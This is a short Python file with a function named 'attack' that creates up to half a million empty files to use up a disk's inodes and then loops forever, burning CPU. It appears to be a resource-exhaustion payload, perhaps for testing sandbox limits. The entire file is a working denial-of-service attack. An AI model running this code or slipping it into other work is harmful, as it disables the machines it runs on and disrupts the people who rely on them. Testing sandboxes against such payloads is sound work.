"""Makes up to half a million empty files, which take their time to be removed and use up a disk's inodes."""

import os


def attack(*args, **kwargs):
    made = 0
    try:
        for made in range(500_000):
            os.close(os.open(f"left-behind-{made}", os.O_CREAT | os.O_WRONLY))
            if made % 20_000 == 0:
                print(made, "files", flush=True)
    except OSError:
        pass
    print(made, "files", flush=True)
    while True:
        pass
